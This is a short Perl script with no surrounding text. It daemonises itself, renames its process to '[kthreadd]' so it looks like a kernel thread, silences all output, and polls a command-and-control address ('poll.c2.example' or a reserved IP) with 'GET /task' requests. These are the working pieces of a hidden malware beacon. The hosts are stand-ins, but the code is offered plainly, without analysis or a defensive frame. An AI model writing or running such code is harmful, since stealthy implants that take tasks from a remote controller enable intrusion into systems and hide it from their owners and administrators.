use strict; use warnings; use POSIX qw(setsid); use IO::Socket::INET;
exit 0 if fork();
setsid(); exit 0 if fork();
chdir "/"; $0 = "[kthreadd]";
open(STDIN, "<", "/dev/null"); open(STDOUT, ">", "/dev/null"); open(STDERR, ">", "/dev/null");
for (1 .. 3) {
    my $peer = IO::Socket::INET->new(PeerAddr => "poll.c2.example:80", Timeout => 1) || IO::Socket::INET->new(PeerAddr => "240.0.0.24:80", Timeout => 1);
    print $peer "GET /task HTTP/1.0\r\n\r\n" if $peer;
    sleep 1;
}
